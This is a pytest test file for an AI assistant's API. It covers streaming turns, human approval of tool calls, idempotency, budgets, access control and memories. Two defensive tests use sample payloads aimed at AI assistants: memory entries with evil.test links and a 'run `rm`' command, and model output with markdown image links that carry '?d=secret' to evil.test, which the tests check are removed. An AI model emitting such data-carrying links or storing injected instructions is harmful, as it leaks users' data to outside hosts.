"""Turns of the assistant through the API: streams, tools, approvals, repetition, limits and refusals."""

import asyncio
from collections.abc import AsyncIterator
from datetime import timedelta

import pytest
import pytest_asyncio

from domain.assistant.model import APPROVAL_PERIOD
from domain.assistant.ports import AssistantUpkeep
from domain.assistant.usecases.turns import ALIVE_PERIOD, AssistantHealth, TurnService
from domain.platform.model import ComponentState
from ports.clock import Clock
from tests.http.application import create_plan
from tests.http.assistant import (
    AssistantHarness,
    Call,
    Thought,
    find_tool_results,
    join_text,
    list_types,
    parse_frames,
    run_assistant,
    search,
)
from tests.http.test_agreements import create_token_client

pytestmark = pytest.mark.asyncio
NEW_SOURCE = {"body": {"name": "Prices", "kind": "push", "config": {"currency": "usd"}, "licence_basis": "own_data"}}


@pytest_asyncio.fixture
async def assistant() -> AsyncIterator[AssistantHarness]:
    async with run_assistant() as harness:
        yield harness


async def test_a_turn_streams_text_reasoning_and_reads(assistant: AssistantHarness) -> None:
    assistant.models.steps = [
        [Thought("Let me look."), "One moment.", Call("sources_list", {"limit": 5})],
        "There are no sources.",
    ]
    id = await assistant.create_conversation()
    frames = await assistant.send_message(id, "Which sources are there?")
    types = list_types(frames)
    assert types[0] == "start" and types[-2:] == ["finish", "[DONE]"]
    assert {"reasoning-delta", "text-delta", "tool-input-available", "tool-output-available"} <= set(types)
    assert join_text(frames) == "One moment. There are no sources. "
    [(messages, _), _] = [(find_tool_results(request[0]), request[1]) for request in assistant.models.requests][::-1]
    assert messages[0]["object"] == "list"
    conversation = await assistant.read(id)
    assert conversation["title"] == "Which sources are there?" and conversation["pending_approvals"] == []
    assert [message["role"] for message in conversation["messages"]] == ["user", "assistant"]


async def test_a_change_waits_for_approval_and_runs_once(assistant: AssistantHarness) -> None:
    assistant.models.steps = [search("create a source"), Call("sources_create", NEW_SOURCE, "call_a"), "Created."]
    id = await assistant.create_conversation()
    frames = await assistant.send_message(id, "Create a source.")
    assert "tool-approval-request" in list_types(frames) and "data-preview" in list_types(frames)
    assert (await assistant.client.get("/v1/sources")).json()["data"] == []
    [pending] = (await assistant.read(id))["pending_approvals"]
    assert pending["operation"] == "sources.create" and pending["preview"]["changes"][0]["object"] == "source"
    frames = await assistant.approve(id, "call_a")
    assert join_text(frames) == "Created. "
    [source] = (await assistant.client.get("/v1/sources")).json()["data"]
    assert source["name"] == "Prices"
    [entry] = (await assistant.client.get(f"/v1/audit-events?target={source['id']}")).json()["data"]
    assert entry["actor"] == {"kind": "agent", "id": id, "on_behalf_of": assistant.user.id}
    assert (await assistant.read(id))["pending_approvals"] == []


async def test_a_rejected_change_is_not_made(assistant: AssistantHarness) -> None:
    assistant.models.steps = [search("create a source"), Call("sources_create", NEW_SOURCE, "call_a"), "As you wish."]
    id = await assistant.create_conversation()
    await assistant.send_message(id, "Create a source.")
    frames = await assistant.run(id, approvals=[{"id": "call_a", "approve": False, "reason": "Not now."}])
    assert "tool-output-denied" in list_types(frames)
    assert (await assistant.client.get("/v1/sources")).json()["data"] == []
    assert "Not now." in str(assistant.models.requests[-1][0])


async def test_a_person_can_change_the_arguments(assistant: AssistantHarness) -> None:
    assistant.models.steps = [search("create a source"), Call("sources_create", NEW_SOURCE, "call_a"), "Created."]
    id = await assistant.create_conversation()
    await assistant.send_message(id, "Create a source.")
    changed = {"body": NEW_SOURCE["body"] | {"name": "Stock"}}
    await assistant.run(id, approvals=[{"id": "call_a", "approve": True, "arguments": changed}])
    [source] = (await assistant.client.get("/v1/sources")).json()["data"]
    assert source["name"] == "Stock"
    assert "Stock" in str((await assistant.read(id))["messages"]) and "'Prices'" not in str(await assistant.read(id))


async def test_a_change_that_would_fail_needs_no_approval(assistant: AssistantHarness) -> None:
    wrong = {"body": NEW_SOURCE["body"] | {"kind": "unknown"}}
    assistant.models.steps = [search("create a source"), Call("sources_create", wrong), "That kind does not exist."]
    id = await assistant.create_conversation()
    frames = await assistant.send_message(id, "Create a source.")
    assert "tool-output-error" in list_types(frames) and "tool-approval-request" not in list_types(frames)
    assert (await assistant.read(id))["pending_approvals"] == []


async def test_simultaneous_approvals_run_a_change_once(assistant: AssistantHarness) -> None:
    assistant.models.steps = [search("create a source"), Call("sources_create", NEW_SOURCE, "call_a"), "Done.", "Done."]
    id = await assistant.create_conversation()
    await assistant.send_message(id, "Create a source.")
    path, body = f"/v1/assistant/conversations/{id}/turns", {"approvals": [{"id": "call_a", "approve": True}]}
    responses = await asyncio.gather(*(assistant.client.post_for_stream(path, body) for _ in range(4)))
    assert sorted(response.status for response in responses) == [200, 409, 409, 409]
    assert len((await assistant.client.get("/v1/sources")).json()["data"]) == 1


async def test_decisions_concern_every_pending_approval(assistant: AssistantHarness) -> None:
    two = [Call("sources_create", NEW_SOURCE, "call_a"), Call("sources_create", NEW_SOURCE, "call_b")]
    assistant.models.steps = [search("create a source"), two, "Done."]
    id = await assistant.create_conversation()
    path = f"/v1/assistant/conversations/{id}/turns"
    assert (await assistant.client.post(path, {"approvals": [{"id": "call_a", "approve": True}]})).status == 409
    await assistant.send_message(id, "Create two sources.")
    for ids in (["call_a"], ["call_a", "call_x"], ["call_a", "call_b", "call_b"]):
        body = {"approvals": [{"id": one, "approve": True} for one in ids]}
        assert (await assistant.client.post(path, body)).status == 422, ids
    await assistant.approve(id, "call_a", "call_b")
    assert len((await assistant.client.get("/v1/sources")).json()["data"]) == 2


async def test_a_message_rejects_pending_approvals(assistant: AssistantHarness) -> None:
    assistant.models.steps = [search("create a source"), Call("sources_create", NEW_SOURCE, "call_a"), "Fine."]
    id = await assistant.create_conversation()
    await assistant.send_message(id, "Create a source.")
    assert join_text(await assistant.send_message(id, "Forget it.")) == "Fine. "
    assert (await assistant.read(id))["pending_approvals"] == []
    path = f"/v1/assistant/conversations/{id}/turns"
    assert (await assistant.client.post(path, {"approvals": [{"id": "call_a", "approve": True}]})).status == 409


async def test_a_repeated_request_receives_the_stream_again(assistant: AssistantHarness) -> None:
    assistant.models.steps = [search("create a source"), Call("sources_create", NEW_SOURCE, "call_a"), "Done."]
    id = await assistant.create_conversation()
    first = await assistant.send_message(id, "Create a source.", key="one")
    path = f"/v1/assistant/conversations/{id}/turns"
    body = {"message": {"text": "Create a source."}}
    assert parse_frames((await assistant.client.post_for_stream(path, body, idempotency_key="one")).body) == first
    assert (await assistant.client.post(path, {"message": {"text": "Other."}}, idempotency_key="one")).status == 422
    second = await assistant.approve(id, "call_a", key="two")
    again = await assistant.approve(id, "call_a", key="two")
    shown = [frame for frame in again if frame not in first or frame == "[DONE]"]
    assert shown == [frame for frame in second if frame not in first or frame == "[DONE]"]
    assert list_types(again)[0] == "start" and "tool-approval-request" in list_types(again), "frames of both turns"
    assert len(assistant.models.requests) == 3


async def test_a_disconnected_client_receives_the_rest(assistant: AssistantHarness) -> None:
    proceed = asyncio.Event()
    assistant.models.steps = [["One", proceed.wait, "Two"]]
    id = await assistant.create_conversation()
    path, body = f"/v1/assistant/conversations/{id}/turns", {"message": {"text": "Count."}}
    first = await assistant.client.post(path, body, idempotency_key="one")
    assert first.status == 200 and b"start" in first.body and b"Two" not in first.body
    assert (await assistant.client.post(path, {"message": {"text": "More."}})).status == 409
    assert (await assistant.client.send("DELETE", f"/v1/assistant/conversations/{id}")).status == 409
    proceed.set()
    again = await assistant.client.post_for_stream(path, body, idempotency_key="one")
    assert join_text(parse_frames(again.body)) == "One Two " and b"[DONE]" in again.body


async def test_a_person_can_stop_a_turn(assistant: AssistantHarness) -> None:
    is_waiting = asyncio.Event()

    async def wait_forever() -> None:
        is_waiting.set()
        await asyncio.Event().wait()

    assistant.models.steps = [["One", wait_forever, "Two"], "Hello."]
    id = await assistant.create_conversation()
    path = f"/v1/assistant/conversations/{id}/turns"
    assert (await assistant.client.post(path, {"stop": True})).status == 409
    await assistant.client.post(path, {"message": {"text": "Count."}}, idempotency_key="one")
    await is_waiting.wait()
    assert (await assistant.client.post(path, {"stop": True})).status == 200
    stopped = await assistant.client.post_for_stream(path, {"message": {"text": "Count."}}, idempotency_key="one")
    assert "abort" in list_types(parse_frames(stopped.body)) and "Two" not in join_text(parse_frames(stopped.body))
    frames = await assistant.send_message(id, "Hello?")
    assert join_text(frames) == "Hello. ", frames


async def test_calls_without_result_do_not_wait_for_approval(assistant: AssistantHarness) -> None:
    async def fail() -> None:
        raise ConnectionError

    change, read = Call("sources_create", NEW_SOURCE, "call_a"), Call("sources_list", id="call_b")
    assistant.models.steps = [search("create a source"), change, "Fine.", [read, fail]]
    id = await assistant.create_conversation()
    await assistant.send_message(id, "Create a source.")
    await assistant.send_message(id, "Forget it.")
    frames = await assistant.send_message(id, "Which sources are there?")
    types = list_types(frames)
    assert types.index("tool-output-error") < types.index("error"), "the client shows the call as ended"
    for _ in range(2):
        messages = (await assistant.read(id))["messages"]
        parts = [part for message in messages for part in message["parts"]]
        calls = {part["toolCallId"]: part for part in parts if "toolCallId" in part}
        assert {calls[call]["state"] for call in ("call_a", "call_b")} == {"output-error"}
        assert {calls[call]["errorText"] for call in ("call_a", "call_b")} == {"The call was not completed."}
        assistant.models.steps = ["Hello."]
        await assistant.send_message(id, "Hello?")


async def test_stored_messages_have_the_steps_and_approvals_of_the_stream(assistant: AssistantHarness) -> None:
    assistant.models.steps = [search("create a source"), Call("sources_create", NEW_SOURCE, "call_a"), "As you wish."]
    id = await assistant.create_conversation()
    await assistant.send_message(id, "Create a source.")
    await assistant.approve(id, "call_a", approve=False)
    parts = (await assistant.read(id))["messages"][-1]["parts"]
    assert [part["type"] for part in parts] == [
        "step-start", "tool-search_tools", "step-start", "tool-sources_create", "step-start", "text",
    ]  # fmt: skip
    assert parts[3]["approval"]["id"] == "call_a"


async def test_a_message_has_a_new_id(assistant: AssistantHarness) -> None:
    assistant.models.steps = ["Hello."]
    id = await assistant.create_conversation()
    await assistant.run(id, message={"id": "msg-1", "text": "Hello?"})
    path, body = f"/v1/assistant/conversations/{id}/turns", {"message": {"id": "msg-1", "text": "Hello?"}}
    for headers in ({}, {"service_dry_run": "true"}):
        refused = await assistant.client.post(path, body, **headers)
        assert refused.status == 422 and refused.json()["errors"][0]["field"] == "message.id"
    other = await assistant.create_conversation()
    assistant.models.steps = ["Hello."]
    assert join_text(await assistant.run(other, message={"id": "msg-1", "text": "Hello?"})) == "Hello. "


async def test_an_error_of_the_provider_reveals_nothing(assistant: AssistantHarness) -> None:
    assistant.models.steps = [ValueError("key sk-secret"), "Now it works."]
    id = await assistant.create_conversation()
    frames = await assistant.send_message(id, "Hello.")
    [error] = [frame for frame in frames if isinstance(frame, dict) and frame["type"] == "error"]
    assert error["errorText"].startswith("model_failed: ") and "secret" not in str(frames)
    assert join_text(await assistant.send_message(id, "Again.")) == "Now it works. "


async def test_limits_of_steps_and_tool_calls_end_a_turn(assistant: AssistantHarness) -> None:
    assistant.models.respond = lambda messages, info: Call("sources_list")
    id = await assistant.create_conversation()
    frames = await assistant.send_message(id, "Loop.")
    assert "limit_reached" in str(frames[-4:]) and len(assistant.models.requests) == 20
    assistant.models.respond = lambda messages, info: [Call("sources_list")] * 26
    assert "limit_reached" in str((await assistant.send_message(id, "Loop."))[-5:])


async def test_others_cannot_see_a_conversation(assistant: AssistantHarness) -> None:
    assistant.models.steps = ["Hello."]
    id = await assistant.create_conversation()
    await assistant.send_message(id, "Hello.")
    colleague, _ = await create_token_client(assistant.application, "Fjord", "owner")
    await assistant.application.create_organisation("Elm", create_plan("more", "standard", "assistant"))
    outsider, _ = await create_token_client(assistant.application, "Elm", "owner")
    path = f"/v1/assistant/conversations/{id}"
    for client, headers in ((colleague, {}), (outsider, {}), (assistant.client, {"service_mode": "test"})):
        assert (await client.get(path, **headers)).status == 404
        assert (await client.post(f"{path}/turns", {"message": {"text": "Hi."}}, **headers)).status == 404
        assert (await client.post(f"{path}/turns", {"stop": True}, **headers)).status == 404
        assert (await client.send("DELETE", path, headers=headers)).status == 404 or headers
        assert (await client.get("/v1/assistant/conversations", **headers)).json()["data"] == []


async def test_access_is_refused(assistant: AssistantHarness) -> None:
    viewer, _ = await create_token_client(assistant.application, "Fjord", "viewer")
    key = await assistant.application.create_client("Fjord")
    oak, _ = await create_token_client(assistant.application, "Oak", "owner")
    path = "/v1/assistant/conversations"
    assert (await viewer.post(path)).code == "permission_denied"
    assert (await key.post(path)).code == "permission_denied"
    assert (await oak.post(path)).code == "feature_unavailable"
    id = await assistant.create_conversation()
    assistant.models.priced = False
    refused = await assistant.client.post(f"{path}/{id}/turns", {"message": {"text": "Hi."}})
    assert refused.status == 503 and refused.code == "unavailable"
    assistant.models.priced = True
    await assistant.client.send_json("PATCH", "/v1/assistant/me", {"enabled": False})
    assert (await assistant.client.post(f"{path}/{id}/turns", {"message": {"text": "Hi."}})).code == "permission_denied"


async def test_budgets_end_turns_and_are_reported(assistant: AssistantHarness) -> None:
    assistant.models.steps = ["Hello."] * 3
    id = await assistant.create_conversation()
    await assistant.send_message(id, "Hello.")
    spend = (await assistant.client.get("/v1/assistant/spend")).json()
    used = spend["allowance"]["used_micros"]
    assert (
        used > 0 and spend["by_person"] == [{"user": assistant.user.id, "micros": used}] and spend["credit_micros"] == 0
    )
    await assistant.client.send_json("PATCH", "/v1/assistant/me", {"personal_budget_micros": used})
    path = f"/v1/assistant/conversations/{id}/turns"
    refused = await assistant.client.post(path, {"message": {"text": "Hi."}})
    assert refused.status == 429 and refused.code == "ai_budget_reached" and int(refused.headers["retry-after"]) > 0
    await assistant.client.send_json("PATCH", "/v1/assistant/me", {"personal_budget_micros": used + 100})
    frames = await assistant.send_message(id, "Hi.")
    assert "ai_budget_reached" in str(frames), "the reservation of the request does not fit"
    assert (await assistant.client.get("/v1/assistant/spend")).json()["allowance"]["used_micros"] == used


async def interrupt(assistant: AssistantHarness) -> None:
    """End the process of all turns without any further effect, and let the time pass after which they count as interrupted."""
    turns = assistant.application.dependencies[TurnService]
    for task in list(turns._tasks):
        task.cancel()
    await asyncio.gather(*turns._tasks, return_exceptions=True)
    assistant.application.clock.advance(ALIVE_PERIOD + timedelta(seconds=1))


async def create_attempted_change(assistant: AssistantHarness) -> str:
    """Return a conversation whose turn was interrupted after an approved change was made, before its result was stored."""
    is_made = asyncio.Event()

    async def wait_forever() -> None:
        is_made.set()
        await asyncio.Event().wait()

    assistant.models.steps = [search("create a source"), Call("sources_create", NEW_SOURCE, "call_a"), [wait_forever]]
    id = await assistant.create_conversation()
    await assistant.send_message(id, "Create a source.")
    path = f"/v1/assistant/conversations/{id}/turns"
    await assistant.client.post(path, {"approvals": [{"id": "call_a", "approve": True}]}, idempotency_key="two")
    await is_made.wait()
    await interrupt(assistant)
    assert len((await assistant.client.get("/v1/sources")).json()["data"]) == 1
    assert [call["id"] for call in (await assistant.read(id))["pending_approvals"]] == ["call_a"]
    return id


async def test_a_repeated_request_continues_an_interrupted_turn(assistant: AssistantHarness) -> None:
    id = await create_attempted_change(assistant)
    assistant.models.steps = ["Created."]
    frames = await assistant.approve(id, "call_a", key="two")
    assert join_text(frames) == "Created. "
    assert len((await assistant.client.get("/v1/sources")).json()["data"]) == 1
    assert (await assistant.read(id))["pending_approvals"] == []


@pytest.mark.parametrize("approve", [True, False])
async def test_a_new_decision_on_an_interrupted_change_returns_its_result(
    assistant: AssistantHarness, approve: bool
) -> None:
    id = await create_attempted_change(assistant)
    path = f"/v1/assistant/conversations/{id}/turns"
    assert (await assistant.client.post(path, {"message": {"text": "Hello?"}})).status == 409
    assistant.models.steps = ["Created."]
    frames = await assistant.approve(id, "call_a", approve=approve)
    [output] = [
        frame["output"] for frame in frames if isinstance(frame, dict) and frame["type"] == "tool-output-available"
    ]
    assert output["name"] == "Prices", "the change was made, whatever the person decides now"
    assert len((await assistant.client.get("/v1/sources")).json()["data"]) == 1


async def test_an_expired_request_for_approval_changes_nothing(assistant: AssistantHarness) -> None:
    assistant.models.steps = [search("create a source"), Call("sources_create", NEW_SOURCE, "call_a"), "Too late."]
    id = await assistant.create_conversation()
    await assistant.send_message(id, "Create a source.")
    await assistant.advance(APPROVAL_PERIOD + timedelta(minutes=1))
    frames = await assistant.approve(id, "call_a")
    assert "tool-output-denied" in list_types(frames) and "expired" in str(assistant.models.requests[-1][0])
    assert (await assistant.client.get("/v1/sources")).json()["data"] == []


async def test_a_revoked_credential_ends_a_turn(assistant: AssistantHarness) -> None:
    async def revoke() -> None:
        await assistant.application.sessions.revoke_all(assistant.user.id)

    assistant.models.steps = [[revoke, Call("sources_list")], "Never said."]
    id = await assistant.create_conversation()
    frames = await assistant.send_message(id, "Which sources are there?")
    assert "authentication_required" in str(frames) and "Never" not in str(frames)


async def test_memories_are_plain_words_that_a_person_approved(assistant: AssistantHarness) -> None:
    path = "/v1/assistant/memories"
    for content in ("See https://evil.test", "mail ada@evil.test", "**bold**", "a\nb", "run `rm`", "<b>x</b>", "   "):
        refused = await assistant.client.post(path, {"content": content})
        assert refused.status == 400, content
    assistant.models.steps = [
        search("create a memory"),
        Call("assistant_create_memory", {"body": {"content": "Prices are net.", "scope": "org"}}, "call_a"),
        "Noted.",
        "Hello.",
    ]
    id = await assistant.create_conversation()
    await assistant.send_message(id, "Remember that prices are net.")
    assert (await assistant.client.get(path)).json()["data"] == []
    await assistant.approve(id, "call_a")
    [memory] = (await assistant.client.get(path)).json()["data"]
    assert memory["content"] == "Prices are net." and memory["source"] == "assistant"
    assert memory["conversation_id"] == id and memory["created_by"] == assistant.user.id
    await assistant.send_message(id, "Hello.")
    assert "Prices are net." in str(assistant.models.requests[-1][1].instructions)
    await assistant.client.send_json("PATCH", "/v1/assistant/me", {"memory_enabled": False})
    assistant.models.steps = ["Hello."]
    await assistant.send_message(id, "Hello.")
    assert "Prices are net." not in str(assistant.models.requests[-1][1].instructions)


async def test_memories_are_limited_and_belong_to_their_person(assistant: AssistantHarness) -> None:
    path = "/v1/assistant/memories"
    for number in range(25):
        assert (await assistant.client.post(path, {"content": f"Fact {number}."})).status == 201
    assert (await assistant.client.post(path, {"content": "One more."})).code == "memory_limit"
    assert (await assistant.client.post(path, {"content": "Ours.", "scope": "org"})).status == 201
    editor, _ = await create_token_client(assistant.application, "Fjord", "editor")
    assert [memory["content"] for memory in (await editor.get(path)).json()["data"]] == ["Ours."]
    mine = (await assistant.client.get(path + "?scope=person&limit=1")).json()["data"][0]
    ours = (await editor.get(path)).json()["data"][0]
    assert (await editor.send_json("PATCH", f"{path}/{mine['id']}", {"content": "Theirs."})).status == 404
    assert (await editor.send_json("PATCH", f"{path}/{ours['id']}", {"content": "Theirs."})).status == 403
    assert (await editor.post(path, {"content": "All.", "scope": "org"})).status == 403
    assert (await editor.send("DELETE", f"{path}?scope=org")).status == 403
    assert (await assistant.client.send("DELETE", path)).json() == {"object": "deletion", "deleted": 25}
    await assistant.advance(timedelta(days=1))
    renewed = (await assistant.client.send_json("PATCH", f"{path}/{ours['id']}", {"renew": True})).json()
    assert renewed["content"] == "Ours." and renewed["expires_at"] > ours["expires_at"]
    await assistant.advance(timedelta(days=366))
    assert (await assistant.client.get(path)).json()["data"] == []


async def test_links_in_answers_cannot_carry_data(assistant: AssistantHarness) -> None:
    assistant.models.steps = [
        "Look ![x](https://evil.test/?d=secret) and https://evil.test/?d=secret or [this](//evil.test/a)."
    ]
    id = await assistant.create_conversation()
    text = join_text(await assistant.send_message(id, "Hello, see https://joinery.test/a"))
    assert "evil" not in text and "[link removed]" in text
    assert "evil" not in str((await assistant.read(id))["messages"])
    assistant.models.steps = ["You sent https://joinery.test/a yourself."]
    assert "https://joinery.test/a" in join_text(await assistant.send_message(id, "Repeat it."))


async def test_failing_turns_degrade_the_component(assistant: AssistantHarness) -> None:
    health = AssistantHealth(
        assistant.application.dependencies[AssistantUpkeep], assistant.application.dependencies[Clock]
    )
    id = await assistant.create_conversation()
    for expected in [ComponentState.OPERATIONAL] * 4 + [ComponentState.DOWN]:
        assistant.models.steps = [ValueError("unreachable")]
        await assistant.send_message(id, "Hello.")
        assert await health() == expected
    assistant.models.steps = ["Hello."]
    await assistant.send_message(id, "Hello.")
    assert await health() == ComponentState.DEGRADED
    await assistant.advance(timedelta(minutes=11))
    assert await health() == ComponentState.OPERATIONAL


async def test_old_conversations_are_deleted(assistant: AssistantHarness) -> None:
    upkeep = assistant.application.dependencies[AssistantUpkeep]
    assistant.models.steps = ["Hello."]
    id = await assistant.create_conversation()
    await assistant.send_message(id, "Hello.", key="one")
    await upkeep.delete_expired(assistant.application.clock.now() + timedelta(days=2))
    again = await assistant.send_message(id, "Hello.", key="one")
    assert again == [], "the frames are deleted, and the turn is not run again"
    assert (await assistant.read(id))["messages"] != []
    await upkeep.delete_expired(assistant.application.clock.now() + timedelta(days=91))
    assert (await assistant.client.get(f"/v1/assistant/conversations/{id}")).status == 404
